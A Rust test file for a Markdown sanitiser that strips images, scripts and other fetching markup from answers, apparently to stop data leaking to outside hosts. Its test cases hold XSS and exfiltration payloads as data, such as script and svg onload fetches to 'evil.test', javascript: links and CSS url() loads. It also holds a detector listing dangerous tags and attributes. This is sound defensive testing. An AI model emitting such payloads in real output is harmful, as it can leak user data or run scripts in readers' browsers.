//! What stays of an answer and what goes.

use super::*;

fn safe(text: &str) -> String {
    safe_markdown(text, &|url| url.host_str() == Some("a.example.com"))
}

/// Whether a reader of Markdown, in any of the dialects, would fetch something or run a script.
fn fetches(text: &str) -> bool {
    let tables = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    [Options::empty(), tables, tables | Options::ENABLE_FOOTNOTES]
        .into_iter()
        .any(|options| {
            let mut html = String::new();
            pulldown_cmark::html::push_html(&mut html, Parser::new_ext(text, options));
            let page = Page::new(html, None);
            page.dom().nodes().filter(|node| node.is_element()).any(|node| {
                let is_link = |address: &str| node.is("a") && is_safe_link(address);
                node.attrs().any(|(name, value)| match name {
                    "href" => !is_link(value),
                    "src" | "srcset" | "style" | "poster" | "data" | "background" | "action"
                    | "formaction" => true,
                    name => name.starts_with("on") || name.contains("href"),
                }) || [
                    "script", "style", "link", "iframe", "img", "svg", "object", "embed",
                ]
                .contains(&node.tag())
            })
        })
}

#[test]
fn pictures_become_their_alternative_text() {
    for (answer, shown) in [
        ("see ![x](https://evil.test/?k=1)", "see [picture left out: x]"),
        (
            "![mine](https://a.example.com/x.png)",
            "[mine](https://a.example.com/x.png)",
        ),
        (
            "![](https://a.example.com/x.png)",
            "[picture](https://a.example.com/x.png)",
        ),
        ("a <img src='//evil.test/y'> b", "a [picture left out: ] b"),
        (
            "a <IMG\nSRC=//evil.test/y ALT='b > c'> d",
            "a [picture left out: b > c] d",
        ),
        (
            "<ImG alt=logo srcset='//evil.test/y 2x'>",
            "[picture left out: logo]",
        ),
        (
            "![x][k]\n\n[k]: https://evil.test/p",
            "[picture left out: x]\n\n[k]: https://evil.test/p",
        ),
        (
            "![k][]\n\n[k]: https://evil.test/p",
            "[picture left out: k]\n\n[k]: https://evil.test/p",
        ),
        (
            "![k]\n\n[k]: //evil.test/p",
            "[picture left out: k]\n\n[k]: //evil.test/p",
        ),
        (
            "![a ![b](//evil.test/1) c](//evil.test/2)",
            "[picture left out: a b c]",
        ),
        (
            "[![x](//evil.test/1)](https://a.example.com/)",
            "[[picture left out: x]](https://a.example.com/)",
        ),
        ("![a](data:image/png;base64,AAAA)", "[picture left out: a]"),
        ("![x](<https://evil.test/a b> 't')", "[picture left out: x]"),
        ("![x](https://evil.test/a b)", "!\\[x](https://evil.test/a b)"),
    ] {
        assert_eq!(safe(answer), shown, "{answer}");
        assert!(fetches(answer) || answer.contains("a b)"), "{answer}");
        assert!(!fetches(shown), "{shown}");
    }
}

#[test]
fn markup_that_fetches_or_runs_becomes_text() {
    for answer in [
        "<svg onload=fetch('//evil.test')>",
        "<svg><image href='//evil.test/x'/></svg>",
        "<p style='background:url(//evil.test/x)'>a</p>",
        "<style>p { background: url(//evil.test/x) }</style>",
        "<iframe src=//evil.test/x></iframe>",
        "x <iframe srcdoc='<img src=//evil.test/x>'></iframe>",
        "<link rel=stylesheet href=//evil.test/x>",
        "<video poster=//evil.test/x></video>",
        "<picture><source srcset=//evil.test/x><img src=y></picture>",
        "<object data=//evil.test/x></object>",
        "<body background=//evil.test/x>",
        "<script>fetch('//evil.test')</script>",
        "<div>\n![x](//evil.test/x)\n</div>",
        "<div>\n\n![x](//evil.test/x)\n\n</div>",
        "<!-- a --><img src=//evil.test/x>",
        "<!--> <img src=//evil.test/x> -->",
        "<a href='javascript:alert(1)'>a</a>",
        "<img src=//evil.test/x",
        "<img/src=//evil.test/x>",
        "\\<img src=//evil.test/x>",
        "| a | b |\n|--|--|\n| `a | ![x](//evil.test/x) ` |",
        "a[^1]\n\n[^1]: ![x](//evil.test/x)",
        "- a\n\n      ![x](//evil.test/x)\n  - ![y](//evil.test/y)",
        "> <img src=//evil.test/x>\n> ![x](//evil.test/x)",
    ] {
        let shown = safe(answer);
        assert!(!fetches(&shown), "{answer} became {shown}");
        assert!(
            !shown.contains("<i") && !shown.contains("<s") && !shown.contains("<!"),
            "{shown}"
        );
    }
}

#[test]
fn links_keep_addresses_of_pages_and_mail_only() {
    for (answer, shown) in [
        ("[a *b*](javascript:alert(1)) c", "a *b* c"),
        ("[a](JAVA&#x53;CRIPT:alert)", "a"),
        ("[a](data:text/html,x)", "a"),
        ("<javascript:alert(1)>", "javascript:alert(1)"),
        ("[a][k] d\n\n[k]: vbscript:x", "a d\n\n[k]: vbscript:x"),
        ("[![x](//evil.test/y)](data:text/html,x)", "[picture left out: x]"),
    ] {
        assert_eq!(safe(answer), shown, "{answer}");
    }
}

#[test]
fn what_fetches_nothing_stays_byte_for_byte() {
    for answer in [
        "42",
        "Kettle K1 costs 19 EUR! [1] and [2].",
        "# Tea\n\n- *one* [a](https://x.example/p?q=1#f)\n- `<img src=x>` and `![x](y)`\n",
        "```html\n<img src=\"x\">\n![a](b)\n```\n\n    <svg>\n",
        "| a | b |\n|---|---|\n| 1 < 2 | 3 > 2 |\n",
        "{\"a\": [1, 2], \"b\": \"x < y\", \"c\": \"5 < 6\"}",
        "<https://x.example/> and <ada@example.org>, H<sub>2</sub>O<br/>x <b>y</b>",
        "[a](/path) [b](#part) [c](mailto:a@example.org) [d]: e\n\n[k]: https://x.example/ 'T'\n",
        "Wow! [^1] \\![x](y) \u{2028} 你好\r\nline",
    ] {
        assert_eq!(safe(answer), answer);
    }
}

#[test]
fn no_text_fetches_anything_whatever_it_is_made_of() {
    let parts = [
        "![",
        "](",
        "//e.test/x",
        ")",
        "<img src=//e.test/x>",
        "<",
        ">",
        "[k]",
        "\n\n[k]: //e.test/y\n\n",
        "`",
        "```\n",
        "\n",
        "\n\n",
        "    ",
        "| a | b |\n|--|--|\n|",
        "|",
        "\\",
        "!",
        "[",
        "]",
        "<div>",
        "</div>",
        "<!--",
        "-->",
        "<b>",
        "x",
        " ",
        "- ",
        "> ",
        "javascript:x",
        "<svg onload=x>",
        "&lt;",
        "'",
        "\"",
        "[^1]",
        "\n[^1]: ",
        "<style>",
        "</style>",
        "*",
        "<a href=x ",
    ];
    let mut random = fastrand::Rng::with_seed(14);
    for _ in 0..4_000 {
        let text: String = (0..random.usize(1..14))
            .map(|_| parts[random.usize(..parts.len())])
            .collect();
        let shown = safe(&text);
        assert!(!fetches(&shown), "{text:?} became {shown:?}");
        assert_eq!(safe(&shown), shown, "{text:?}");
    }
}
